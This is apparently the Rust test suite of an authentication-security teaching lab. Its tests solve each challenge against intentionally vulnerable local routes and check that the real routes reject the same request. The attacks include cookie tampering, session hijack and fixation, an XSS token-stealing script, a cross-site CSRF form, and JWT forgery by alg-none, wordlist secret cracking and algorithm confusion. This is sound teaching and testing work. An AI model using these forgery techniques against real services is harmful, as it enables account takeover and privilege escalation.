//! The challenges, each solved by doing the attack by hand — the request a learner would craft,
//! through the real server — with its solved state flipping only then; beside each, the real
//! route refusing the same request. Then progress: `/lab/progress`, hints, clearing, labs, restart.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use hmac::{Hmac, Mac};
use reqwest::StatusCode;
use serde_json::{Value, json};
use sha2::Sha256;

use crate::common::{
    Body, TestApp, TestUser, bare_client, browser, cookie_value, csrf_from_html, set_cookie,
    spawn_app, spawn_app_on, spawn_app_with,
};

/// This client's lab's progress.
async fn progress(app: &TestApp) -> Value {
    let res = app.get("/lab/progress").await;
    assert_eq!(res.status(), StatusCode::OK);
    res.json().await.expect("JSON")
}

/// Whether challenge `id` is solved in this client's lab, and its state.
async fn state_of(app: &TestApp, id: &str) -> (bool, String) {
    let all = progress(app).await;
    let one = all["challenges"]
        .as_array()
        .and_then(|list| list.iter().find(|c| c["id"] == id))
        .cloned()
        .unwrap_or_else(|| panic!("{id} in {all}"));
    (
        one["solved"].as_bool().unwrap_or(false),
        one["state"].as_str().unwrap_or_default().to_owned(),
    )
}

async fn solved(app: &TestApp, id: &str) -> bool {
    state_of(app, id).await.0
}

fn b64(text: &str) -> String {
    URL_SAFE_NO_PAD.encode(text)
}

/// An HS256 token over exactly these header and payload bytes.
fn hs256(header: &str, payload: &str, key: &[u8]) -> String {
    let message = format!("{}.{}", b64(header), b64(payload));
    let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("any key");
    mac.update(message.as_bytes());
    format!(
        "{message}.{}",
        URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes())
    )
}

/// The payload of `token`, decoded.
fn payload_of(token: &str) -> serde_json::Map<String, Value> {
    let part = token.split('.').nth(1).expect("a payload");
    serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).expect("base64url")).expect("JSON")
}

fn encoded(text: &str) -> String {
    percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC).to_string()
}

fn bearer(token: &str) -> String {
    format!("Bearer {token}")
}

#[actix_web::test]
async fn the_naive_cookie_makes_you_bob_the_admin_only_when_you_edit_it_and_the_signed_one_refuses_edits()
 {
    let app = spawn_app().await;
    assert!(!solved(&app, "naive-cookie").await);
    let res = app.cookie_login(&TestUser::ALICE).await;
    let naive = cookie_value(&set_cookie(&res, "authlab_naive").expect("the naive cookie"));
    assert_eq!(naive, "alice@example.com|user");
    assert!(
        set_cookie(&res, "authlab_naive")
            .unwrap_or_default()
            .contains("Path=/lab/vulnerable/naive-cookie")
    );
    // As issued, and half edited: not yet.
    for value in [
        "alice@example.com|user",
        "bob@example.com|user",
        "alice@example.com|admin",
    ] {
        let page = app
            .get_with_cookie(
                "/lab/vulnerable/naive-cookie",
                &format!("authlab_naive={value}"),
            )
            .await;
        assert_eq!(page.status(), StatusCode::OK);
        assert!(!solved(&app, "naive-cookie").await, "{value}");
    }
    let page = app
        .get_with_cookie(
            "/lab/vulnerable/naive-cookie",
            "authlab_naive=bob@example.com|admin",
        )
        .await;
    let html = page.text().await.unwrap_or_default();
    assert!(html.contains("id=\"challenge-solved\""), "the page says so");
    assert!(solved(&app, "naive-cookie").await);
    // The real, signed cookie refuses the same kind of edit.
    let signed = app
        .client
        .get(app.url("/cookie/api/me"))
        .send()
        .await
        .expect("sent");
    assert_eq!(signed.status(), StatusCode::OK, "the real login works");
    let edited = app
        .get_with_cookie("/cookie/api/me", "authlab_cookie=bob%40example.com%7Cadmin")
        .await;
    assert_eq!(edited.status(), StatusCode::UNAUTHORIZED);
}

/// A `sessionid` and the CSRF seed a bare client keeps by hand.
fn cookie_header(pairs: &[(&str, &str)]) -> String {
    pairs
        .iter()
        .map(|(n, v)| format!("{n}={v}"))
        .collect::<Vec<_>>()
        .join("; ")
}

#[actix_web::test]
async fn a_copied_sessionid_used_in_another_browser_solves_the_hijack_and_dies_at_revoke() {
    let app = spawn_app().await;
    let res = app.session_login(&TestUser::ALICE).await;
    let sessionid = cookie_value(&set_cookie(&res, "sessionid").expect("a session"));
    // The browser that logged in reads its own page: no hijack.
    assert_eq!(app.get("/session/api/me").await.status(), StatusCode::OK);
    assert_eq!(app.get("/session/me").await.status(), StatusCode::OK);
    assert!(!solved(&app, "session-hijack").await);
    // Another browser, with only the copied cookie.
    let thief = app
        .get_with_cookie("/session/api/me", &format!("sessionid={sessionid}"))
        .await;
    assert_eq!(thief.status(), StatusCode::OK);
    let me: Value = thief.json().await.expect("JSON");
    assert_eq!(me["email"], "alice@example.com");
    assert!(solved(&app, "session-hijack").await);
    // The owner logs out (the session is deleted on the server): the copy dies at once.
    let logout = app.submit_form("/session/me", "/session/logout", &[]).await;
    assert_eq!(logout.status(), StatusCode::SEE_OTHER);
    let dead = app
        .get_with_cookie("/session/api/me", &format!("sessionid={sessionid}"))
        .await;
    assert_eq!(dead.status(), StatusCode::UNAUTHORIZED);
}

#[actix_web::test]
async fn a_key_planted_before_the_vulnerable_login_logs_the_attacker_in_and_the_real_login_renews_it()
 {
    let app = spawn_app().await;
    // The attacker's browser takes a key.
    let got = app
        .submit_form(
            "/lab/vulnerable/fixation",
            "/lab/vulnerable/fixation/key",
            &[],
        )
        .await;
    assert_eq!(got.status(), StatusCode::SEE_OTHER);
    let key = cookie_value(&set_cookie(&got, "authlab_fixation").expect("a key"));
    // The victim's browser (no cookie jar: its cookies by hand) has the key planted, and logs in.
    let first = bare_client()
        .get(app.url("/lab/vulnerable/fixation"))
        .send()
        .await
        .expect("sent");
    let seed = cookie_value(&set_cookie(&first, "authlab_csrf").expect("a seed"));
    let token = csrf_from_html(&first.text().await.expect("html")).expect("a token");
    let victim = cookie_header(&[("authlab_csrf", &seed), ("authlab_fixation", &key)]);
    let login = bare_client()
        .post(app.url("/lab/vulnerable/fixation/login"))
        .header("Cookie", &victim)
        .form(&[
            ("csrf_token", token.as_str()),
            ("email", TestUser::ALICE.email),
            ("password", TestUser::ALICE.password),
        ])
        .send()
        .await
        .expect("sent");
    assert_eq!(login.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        set_cookie(&login, "authlab_fixation").map(|c| cookie_value(&c)),
        Some(key.clone()),
        "the vulnerable login keeps the key"
    );
    // The victim looking at it solves nothing; the attacker does.
    let seen = bare_client()
        .get(app.url("/lab/vulnerable/fixation"))
        .header("Cookie", &victim)
        .send()
        .await
        .expect("sent");
    assert!(
        seen.text()
            .await
            .unwrap_or_default()
            .contains("alice@example.com")
    );
    assert!(!solved(&app, "session-fixation").await);
    let (_, html) = app.page("/lab/vulnerable/fixation").await;
    assert!(html.contains("logged in as alice@example.com"), "{html}");
    assert!(html.contains("id=\"challenge-solved\""));
    assert!(solved(&app, "session-fixation").await);

    // The real login: a sessionid planted before it is anonymous after it.
    let planted = app
        .submit_form("/session", "/session/lab/anonymous", &[])
        .await;
    let planted = cookie_value(&set_cookie(&planted, "sessionid").expect("an anonymous session"));
    let page = bare_client()
        .get(app.url("/session"))
        .send()
        .await
        .expect("sent");
    let seed = cookie_value(&set_cookie(&page, "authlab_csrf").expect("a seed"));
    let token = csrf_from_html(&page.text().await.expect("html")).expect("a token");
    let login = bare_client()
        .post(app.url("/session/login"))
        .header(
            "Cookie",
            cookie_header(&[("authlab_csrf", &seed), ("sessionid", &planted)]),
        )
        .form(&[
            ("csrf_token", token.as_str()),
            ("email", TestUser::ALICE.email),
            ("password", TestUser::ALICE.password),
        ])
        .send()
        .await
        .expect("sent");
    assert_eq!(login.status(), StatusCode::SEE_OTHER);
    let renewed = cookie_value(&set_cookie(&login, "sessionid").expect("a new key"));
    assert_ne!(renewed, planted);
    let attacker = app
        .get_with_cookie("/session/api/me", &format!("sessionid={planted}"))
        .await;
    assert_eq!(attacker.status(), StatusCode::UNAUTHORIZED);
}

#[actix_web::test]
async fn the_xss_page_runs_what_it_is_sent_and_the_collector_takes_only_a_live_key_from_it() {
    let app = spawn_app().await;
    let payload = "<script>fetch('/lab/vulnerable/xss/collect')</script>";
    // A link with the script in its query (what another page could send a browser to) reflects
    // nothing: the search is the learner's own form, with its CSRF token.
    let (status, linked) = app
        .page(&format!("/lab/vulnerable/xss?q={}", encoded(payload)))
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(!linked.contains(payload));
    let unsigned = app
        .client
        .post(app.url("/lab/vulnerable/xss"))
        .form(&[("q", payload)])
        .send()
        .await
        .expect("sent");
    assert_eq!(unsigned.status(), StatusCode::FORBIDDEN, "no CSRF token");
    let res = app
        .submit_form(
            "/lab/vulnerable/xss",
            "/lab/vulnerable/xss",
            &[("q", payload)],
        )
        .await;
    let csp = res
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(csp.contains("'unsafe-inline'"), "{csp}");
    assert!(
        res.text().await.unwrap_or_default().contains(payload),
        "written unescaped"
    );
    // The same query on a real page: escaped, and no inline script allowed.
    let real = app
        .client
        .get(app.url(&format!("/cookie?next={}", encoded(payload))))
        .send()
        .await
        .expect("sent");
    let real_csp = real
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(!real_csp.contains("unsafe-inline"));
    assert!(!real.text().await.unwrap_or_default().contains(payload));

    let login = app
        .api(
            "POST",
            "/token/api/login",
            None,
            Body::Json(
                &json!({"username": TestUser::ALICE.email, "password": TestUser::ALICE.password})
                    .to_string(),
            ),
        )
        .await;
    let key = login.json["token"].as_str().expect("a key").to_owned();
    let collect = |referer: Option<String>, body: String| {
        let app = &app;
        async move {
            let mut request = app
                .client
                .post(app.url("/lab/vulnerable/xss/collect"))
                .body(body);
            if let Some(referer) = referer {
                request = request.header("Referer", referer);
            }
            let res = request.send().await.expect("sent");
            assert_eq!(res.status(), StatusCode::OK);
            res.json::<Value>().await.expect("JSON")
        }
    };
    let from_page = Some(app.url("/lab/vulnerable/xss?q=x"));
    let wrong = collect(from_page.clone(), "0".repeat(40)).await;
    assert_eq!(wrong["solved"], false, "not a key of this lab");
    let elsewhere = collect(None, key.clone()).await;
    assert_eq!(
        elsewhere["solved"], false,
        "not sent by script on the XSS page"
    );
    assert!(!solved(&app, "xss-token").await);
    let stolen = collect(from_page, format!("{key} authlab_csrf=x")).await;
    assert_eq!(stolen["solved"], true);
    assert_eq!(stolen["key_of"], "alice@example.com");
    assert_eq!(stolen["http_only_cookie_seen"], false);
    assert!(solved(&app, "xss-token").await);
}

#[actix_web::test]
async fn a_form_from_another_site_changes_the_username_on_the_lab_route_and_the_real_ones_refuse_it()
 {
    let app = spawn_app().await;
    let port = app.state.another_site.expect("another site listens");
    let other = format!("http://127.0.0.1:{port}");
    // The other site: its editor, a published page, served as written.
    let editor = bare_client()
        .get(format!("{other}/"))
        .send()
        .await
        .expect("sent");
    assert_eq!(editor.status(), StatusCode::OK);
    assert!(
        editor
            .text()
            .await
            .unwrap_or_default()
            .contains(&format!(":{}", app.port))
    );
    let attack = format!(
        "<form method=post action={}/lab/vulnerable/csrf/username><input name=username value=hacked><button>Win</button></form>",
        app.address
    );
    let published = bare_client()
        .post(format!("{other}/pages"))
        .form(&[("html", attack.as_str())])
        .send()
        .await
        .expect("sent");
    assert_eq!(published.status(), StatusCode::SEE_OTHER);
    let location = published.headers()["location"]
        .to_str()
        .expect("ascii")
        .to_owned();
    let page = bare_client()
        .get(format!("{other}{location}"))
        .send()
        .await
        .expect("sent");
    assert_eq!(page.text().await.unwrap_or_default(), attack);
    // Shown only to the lab that published it.
    let elsewhere = bare_client()
        .get(format!("{other}{location}"))
        .header("Cookie", "authlab_lab=0123456789abcdef0123456789abcdef")
        .send()
        .await
        .expect("sent");
    assert_eq!(elsewhere.status(), StatusCode::NOT_FOUND);

    // The victim's browser, logged in, submits that form: Origin is the other site.
    assert_eq!(
        app.session_login(&TestUser::ALICE).await.status(),
        StatusCode::SEE_OTHER
    );
    let real = app
        .client
        .post(app.url("/session/me"))
        .header("Origin", &other)
        .form(&[("username", "hacked")])
        .send()
        .await
        .expect("sent");
    assert_eq!(
        real.status(),
        StatusCode::FORBIDDEN,
        "the real form refuses it"
    );
    assert!(!solved(&app, "csrf").await);
    let forged = app
        .client
        .post(app.url("/lab/vulnerable/csrf/username"))
        .header("Origin", &other)
        .form(&[("username", "hacked")])
        .send()
        .await
        .expect("sent");
    assert_eq!(forged.status(), StatusCode::SEE_OTHER);
    assert!(
        forged.headers()["location"]
            .to_str()
            .unwrap_or_default()
            .contains("from=")
    );
    assert_eq!(
        app.query_one::<String>("SELECT username FROM users WHERE id = 1"),
        "hacked"
    );
    assert!(solved(&app, "csrf").await);
    // Header-authenticated APIs: another site's page would need a preflight, never granted.
    let preflight = bare_client()
        .request(reqwest::Method::OPTIONS, app.url("/token/api/me"))
        .header("Origin", &other)
        .header("Access-Control-Request-Method", "PATCH")
        .header("Access-Control-Request-Headers", "authorization")
        .send()
        .await
        .expect("sent");
    assert!(
        preflight
            .headers()
            .get("access-control-allow-origin")
            .is_none()
    );
}

#[actix_web::test]
async fn an_unsigned_admin_token_fools_the_alg_none_verifier_and_the_real_one_refuses_it() {
    let app = spawn_app().await;
    let access = app.jwt_login(&TestUser::ALICE).await.json["access"]
        .as_str()
        .expect("an access token")
        .to_owned();
    // Its own token passes the naive route through the real check, and solves nothing.
    let own = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-none/me",
            Some(bearer(&access).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!((own.status, own.json["admin"].clone()), (200, json!(false)));
    let mut claims = payload_of(&access);
    let unsigned = |claims: &serde_json::Map<String, Value>| {
        format!(
            "{}.{}.",
            b64(r#"{"alg":"none","typ":"JWT"}"#),
            b64(&Value::Object(claims.clone()).to_string())
        )
    };
    let none = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-none/me",
            Some(bearer(&unsigned(&claims)).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(
        (none.status, none.json["admin"].clone()),
        (200, json!(false)),
        "{}",
        none.text
    );
    assert!(!solved(&app, "alg-none").await);
    claims.insert("role".into(), json!("admin"));
    let forged = unsigned(&claims);
    let answer = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-none/me",
            Some(bearer(&forged).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(
        (answer.status, answer.json["admin"].clone()),
        (200, json!(true)),
        "{}",
        answer.text
    );
    assert!(solved(&app, "alg-none").await);
    let real = app
        .api(
            "GET",
            "/jwt/api/me",
            Some(bearer(&forged).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(real.status, 401);
}

#[actix_web::test]
async fn a_token_re_signed_with_the_cracked_word_fools_the_weak_route_and_the_real_one_refuses_it()
{
    let app = spawn_app().await;
    let body =
        json!({"email": TestUser::ALICE.email, "password": TestUser::ALICE.password}).to_string();
    let issued = app
        .api(
            "POST",
            "/lab/vulnerable/jwt/weak-secret/token",
            None,
            Body::Json(&body),
        )
        .await;
    assert_eq!(issued.status, 200, "{}", issued.text);
    let token = issued.json["access"].as_str().expect("a token").to_owned();
    // Crack it as hashcat would: every word of the published list.
    let list = bare_client()
        .get(app.url("/lab/vulnerable/jwt/weak-secret/wordlist.txt"))
        .send()
        .await
        .expect("sent")
        .text()
        .await
        .expect("text");
    let (message, _) = token.rsplit_once('.').expect("three parts");
    let header = String::from_utf8(
        URL_SAFE_NO_PAD
            .decode(message.split('.').next().expect("a header"))
            .expect("b64"),
    )
    .expect("utf8");
    let signature = token.rsplit('.').next().unwrap_or_default();
    let word = list
        .lines()
        .find(|w| {
            let mut mac = Hmac::<Sha256>::new_from_slice(w.as_bytes()).expect("any key");
            mac.update(message.as_bytes());
            URL_SAFE_NO_PAD.encode(mac.finalize().into_bytes()) == signature
        })
        .expect("the secret is in the list")
        .to_owned();
    let mut claims = payload_of(&token);
    assert_eq!(claims["role"], "learner");
    let own = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/weak-secret/me",
            Some(bearer(&token).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!((own.status, own.json["admin"].clone()), (200, json!(false)));
    assert!(!solved(&app, "weak-secret").await);
    claims.insert("role".into(), json!("admin"));
    let forged = hs256(&header, &Value::Object(claims).to_string(), word.as_bytes());
    let answer = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/weak-secret/me",
            Some(bearer(&forged).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(
        (answer.status, answer.json["admin"].clone()),
        (200, json!(true)),
        "{}",
        answer.text
    );
    assert!(solved(&app, "weak-secret").await);
    let real = app
        .api(
            "GET",
            "/jwt/api/me",
            Some(bearer(&forged).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(real.status, 401);
}

#[actix_web::test]
async fn an_hs256_token_signed_with_the_public_key_fools_the_confused_verifier_and_the_real_one_refuses_it()
 {
    let app = spawn_app().await;
    let pem = bare_client()
        .get(app.url("/lab/vulnerable/jwt/alg-confusion/public.pem"))
        .send()
        .await
        .expect("sent")
        .text()
        .await
        .expect("text");
    assert!(
        pem.starts_with("-----BEGIN PUBLIC KEY-----\n")
            && pem.ends_with("-----END PUBLIC KEY-----\n")
    );
    let body =
        json!({"email": TestUser::ALICE.email, "password": TestUser::ALICE.password}).to_string();
    let issued = app
        .api(
            "POST",
            "/lab/vulnerable/jwt/alg-confusion/token",
            None,
            Body::Json(&body),
        )
        .await;
    let token = issued.json["access"].as_str().expect("a token").to_owned();
    let own = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-confusion/me",
            Some(bearer(&token).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(
        (own.status, own.json["admin"].clone()),
        (200, json!(false)),
        "{}",
        own.text
    );
    let mut claims = payload_of(&token);
    claims.insert("role".into(), json!("admin"));
    let payload = Value::Object(claims).to_string();
    // Signed with the PEM without its last newline: not the key's exact bytes.
    let close = hs256(
        r#"{"alg":"HS256","typ":"JWT"}"#,
        &payload,
        pem.trim_end().as_bytes(),
    );
    let refused = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-confusion/me",
            Some(bearer(&close).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(refused.status, 401);
    assert!(!solved(&app, "alg-confusion").await);
    let forged = hs256(r#"{"alg":"HS256","typ":"JWT"}"#, &payload, pem.as_bytes());
    let answer = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-confusion/me",
            Some(bearer(&forged).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(
        (answer.status, answer.json["admin"].clone()),
        (200, json!(true)),
        "{}",
        answer.text
    );
    assert!(solved(&app, "alg-confusion").await);
    let real = app
        .api(
            "GET",
            "/jwt/api/me",
            Some(bearer(&forged).as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(real.status, 401);
}

#[actix_web::test]
async fn replaying_a_rotated_refresh_token_yourself_revokes_the_family_and_a_lab_button_s_replay_does_not_count()
 {
    let app = spawn_app().await;
    for by_button in [true, false] {
        let pair = app.jwt_login(&TestUser::ALICE).await.json;
        let old = pair["refresh"]
            .as_str()
            .expect("a refresh token")
            .to_owned();
        let rotated = app.jwt_refresh(&old).await;
        assert_eq!(rotated.status, 200);
        let newest = rotated.json["refresh"]
            .as_str()
            .expect("rotated")
            .to_owned();
        app.advance_clock("1m").await;
        let body = json!({ "refresh": old }).to_string();
        let mut headers: Vec<(&str, &[u8])> = vec![("Content-Type", b"application/json")];
        if by_button {
            headers.push(("X-Authlab-Lab-Button", b"two-tabs"));
        }
        let replay = app
            .raw("POST", "/jwt/api/token/refresh", &headers, body.as_bytes())
            .await;
        assert_eq!(replay.status, 401, "{}", replay.text);
        assert_eq!(
            app.jwt_refresh(&newest).await.status,
            401,
            "the whole family is revoked"
        );
        assert_eq!(solved(&app, "refresh-reuse").await, !by_button);
    }
}

#[actix_web::test]
async fn a_client_without_a_cookie_jar_is_lost_to_the_cookie_schemes_and_kept_by_the_header_ones() {
    let app = spawn_app().await;
    // A browser's requests (Mozilla user agent) never count.
    let browserish = bare_client()
        .get(app.url("/session/api/me"))
        .header("User-Agent", "Mozilla/5.0")
        .send()
        .await
        .expect("sent");
    assert_eq!(browserish.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(state_of(&app, "no-cookie-jar").await.1, "not_started");
    let lost = app.api("GET", "/session/api/me", None, Body::None).await;
    assert_eq!(lost.status, 401);
    assert_eq!(
        state_of(&app, "no-cookie-jar").await,
        (false, "started".to_owned())
    );
    let body = json!({"username": TestUser::ALICE.email, "password": TestUser::ALICE.password})
        .to_string();
    let key = app
        .api("POST", "/token/api/login", None, Body::Json(&body))
        .await
        .json["token"]
        .as_str()
        .expect("a key")
        .to_owned();
    let kept = app
        .api(
            "GET",
            "/token/api/me",
            Some(format!("Token {key}").as_bytes()),
            Body::None,
        )
        .await;
    assert_eq!(kept.status, 200);
    assert!(solved(&app, "no-cookie-jar").await);
}

#[actix_web::test]
async fn progress_lists_every_challenge_hints_come_one_at_a_time_and_clearing_asks_first() {
    let app = spawn_app().await;
    let all = progress(&app).await;
    assert_eq!(all["total"], 10);
    let ids: Vec<&str> = all["challenges"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|c| {
            assert!(c["title"].as_str().is_some_and(|t| !t.is_empty()));
            assert_eq!(c["solved"], false);
            c["id"].as_str().expect("an id")
        })
        .collect();
    assert_eq!(ids.len(), 10);
    // The solution waits for the hints.
    let early = app
        .post_json("/lab/progress/alg-none/solution", &json!({}))
        .await;
    assert_eq!(early.status(), StatusCode::CONFLICT);
    // A hint not asked for is not in the page at all.
    let (_, before) = app.page("/challenges/alg-none").await;
    assert!(!before.contains("Load my access token") && !before.contains("id=\"hint-1\""));
    for n in 1..=3 {
        let hint: Value = app
            .post_json("/lab/progress/alg-none/hint", &json!({}))
            .await
            .json()
            .await
            .expect("JSON");
        assert_eq!(hint["hints_shown"], n);
        assert!(
            hint["text"].as_str().is_some_and(|t| t.len() > 20),
            "{hint}"
        );
    }
    let (_, html) = app.page("/challenges/alg-none").await;
    assert!(
        !html.contains("id=\"hint-3\" hidden"),
        "shown hints stay shown"
    );
    let shown = app
        .post_json("/lab/progress/alg-none/solution", &json!({}))
        .await;
    assert_eq!(shown.status(), StatusCode::OK);
    assert_eq!(
        state_of(&app, "alg-none").await,
        (false, "started".to_owned()),
        "hints do not solve"
    );
    assert_eq!(
        app.post_json("/lab/progress/nope/hint", &json!({}))
            .await
            .status(),
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get("/challenges/nope").await.status(),
        StatusCode::NOT_FOUND
    );
    // The lab reset keeps progress; clearing it needs a confirmation.
    assert_eq!(
        app.post_json("/lab/reset", &json!({"confirm": true}))
            .await
            .status(),
        StatusCode::OK
    );
    assert_eq!(state_of(&app, "alg-none").await.1, "started");
    assert_eq!(
        app.post_json("/lab/progress/clear", &json!({}))
            .await
            .status(),
        StatusCode::BAD_REQUEST
    );
    assert_eq!(state_of(&app, "alg-none").await.1, "started");
    assert_eq!(
        app.post_json("/lab/progress/clear", &json!({"confirm": true}))
            .await
            .status(),
        StatusCode::OK
    );
    assert_eq!(state_of(&app, "alg-none").await.1, "not_started");
}

#[actix_web::test]
async fn progress_belongs_to_the_learner_s_lab_survives_a_restart_and_shows_on_the_overview_and_for_the_instructor()
 {
    let dir = tempfile::tempdir().expect("a dir");
    let db = dir.path().join("authlab.sqlite3");
    let app = spawn_app_on(&db, |s| s.instructor_secret = Some("teach".into())).await;
    let join = |app: &TestApp| {
        let me = TestApp::same_server(app, browser());
        async move {
            let res = me
                .client
                .get(me.url("/"))
                .header("Accept", "text/html")
                .send()
                .await
                .expect("sent");
            let lab = cookie_value(&set_cookie(&res, "authlab_lab").expect("a lab"));
            (me, lab)
        }
    };
    let (first, lab) = join(&app).await;
    let (second, _) = join(&app).await;
    let naive = bare_client()
        .get(first.url("/lab/vulnerable/naive-cookie"))
        .header(
            "Cookie",
            format!("authlab_lab={lab}; authlab_naive=bob@example.com|admin"),
        )
        .send()
        .await
        .expect("sent");
    assert_eq!(naive.status(), StatusCode::OK);
    assert!(solved(&first, "naive-cookie").await);
    assert!(
        !solved(&second, "naive-cookie").await,
        "another learner's lab"
    );
    assert!(!solved(&app, "naive-cookie").await, "the shared lab");
    let (_, overview) = first.page("/").await;
    assert!(overview.contains("id=\"challenge-row-naive-cookie\""));
    assert!(overview.contains("state state-solved"));
    // The instructor sees the class per challenge.
    let teacher = TestApp::same_server(&app, browser());
    let signed = teacher
        .submit_form("/instructor", "/instructor/login", &[("secret", "teach")])
        .await;
    assert_eq!(signed.status(), StatusCode::SEE_OTHER);
    let class: Value = teacher
        .get("/instructor/api/class")
        .await
        .json()
        .await
        .expect("JSON");
    let naive_row = class["challenges"]
        .as_array()
        .and_then(|c| c.iter().find(|c| c["id"] == "naive-cookie"))
        .cloned()
        .expect("a row");
    assert_eq!(naive_row["solved"], 1);
    // A restart: the lab's file, and its progress, are still there.
    app.stop().await;
    let again = spawn_app_on(&db, |_| {}).await;
    let back = TestApp::same_server(&again, bare_client());
    let res = back
        .client
        .get(back.url("/lab/progress"))
        .header("X-Authlab-Lab", &lab)
        .send()
        .await
        .expect("sent");
    let after: Value = res.json().await.expect("JSON");
    assert_eq!(after["solved"], 1, "{after}");
}

#[actix_web::test]
async fn with_lab_controls_off_no_vulnerable_route_challenge_or_other_site_exists() {
    let app = spawn_app_with(|s| s.no_lab = true).await;
    assert!(app.state.another_site.is_none());
    for path in [
        "/challenges",
        "/challenges/alg-none",
        "/lab/progress",
        "/lab/vulnerable/naive-cookie",
        "/lab/vulnerable/xss?q=x",
        "/lab/vulnerable/fixation",
        "/lab/vulnerable/csrf",
        "/lab/vulnerable/jwt/weak-secret/wordlist.txt",
        "/lab/vulnerable/jwt/alg-confusion/public.pem",
    ] {
        assert_eq!(
            app.get(path).await.status(),
            StatusCode::NOT_FOUND,
            "{path}"
        );
    }
    let none = app
        .api(
            "GET",
            "/lab/vulnerable/jwt/alg-none/me",
            Some(b"Bearer x.y."),
            Body::None,
        )
        .await;
    assert_eq!(none.status, 404);
}

#[actix_web::test]
async fn every_challenge_page_the_workbench_and_the_vulnerable_pages_render_in_both_languages() {
    let app = spawn_app().await;
    let mut paths: Vec<String> = vec![
        "/challenges".into(),
        "/jwt/workbench".into(),
        "/lab/vulnerable/naive-cookie".into(),
        "/lab/vulnerable/fixation".into(),
        "/lab/vulnerable/csrf".into(),
        "/lab/vulnerable/xss".into(),
    ];
    paths.extend(
        authlab::challenges::Challenge::ALL
            .iter()
            .map(|c| format!("/challenges/{}", c.id())),
    );
    for lang in ["en", "ko"] {
        for path in &paths {
            let sep = if path.contains('?') { '&' } else { '?' };
            let (status, html) = app.page(&format!("{path}{sep}lang={lang}")).await;
            assert_eq!(status, StatusCode::OK, "{path} in {lang}");
            assert!(
                !html.contains("challenge.") && !html.contains("vulnerable."),
                "{path} in {lang}: a key left untranslated"
            );
        }
    }
    let (_, commands) = app.page("/challenges/no-cookie-jar").await;
    assert!(commands.contains(&format!("http://127.0.0.1:{}/token/api/login", app.port)));
    // The commands' login bodies are the ones the routes read (DRF's username, simplejwt's email).
    let text = commands
        .replace("&#34;", "\"")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&#x27;", "'");
    assert!(
        text.contains("/token/api/login -H 'Content-Type: application/json' -d '{\"username\":"),
        "{text}"
    );
    assert!(
        text.contains("/jwt/api/token -H 'Content-Type: application/json' -d '{\"email\":"),
        "{text}"
    );
}
